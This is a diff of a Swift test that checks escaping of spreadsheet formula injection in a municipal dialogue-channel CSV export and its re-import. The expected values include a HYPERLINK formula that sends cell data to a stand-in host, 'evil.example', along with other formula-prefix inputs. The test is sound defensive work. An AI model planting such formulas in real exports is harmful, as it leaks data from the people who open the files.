@@ -234,12 +234,13 @@ import Testing
                     """#)
             }
             let export = try await api.get("/v1/dialogue-overview?municipality=\(m)&format=csv")
-            let cells = parseCSV(String(export.text.dropFirst())).dropFirst().map { $0[5] }
+            let cells = parseCSV(String(export.text.dropFirst())).dropFirst().map { $0[6] }
             #expect(Set(cells) == [#"'=HYPERLINK("https://evil.example/?d="&I3,"Klik")"#, "'+1", "'-1", "'@SUM(A1)", "''=1+2", "''plain", "'\tTab", "Almindelig"])
-            let (n, _) = try await seedMunicipality(api, id: "andenby")
-            try expectOK(try await api.call(.post, "/v1/dialogue-channels/import?municipality=\(n)", token: api.service.admin,
+            // Imported back (the rows carry their ids, so they update the same channels), the names are as typed.
+            try expectOK(try await api.call(.post, "/v1/dialogue-channels/import?municipality=\(m)", token: api.service.admin,
                                             body: export.text, contentType: "text/csv"))
-            let imported = try await api.get("/v1/dialogue-channels?municipality=\(n)&limit=50").data.compactMap { $0["name"] as? String }
+            let imported = try await api.get("/v1/dialogue-channels?municipality=\(m)&limit=50").data.compactMap { $0["name"] as? String }
+            #expect(imported.count == names.count)
             #expect(Set(imported) == [#"=HYPERLINK("https://evil.example/?d="&I3,"Klik")"#, "+1", "-1", "@SUM(A1)", "'=1+2", "'plain", "\tTab", "Almindelig"])
             // A hand-typed '=1+2 imports as =1+2.
             let typed = "service_area,target_group,user_category,purpose,kind,name\r\nKultur,service_users,culture,formal,sms,'=1+2\r\n"
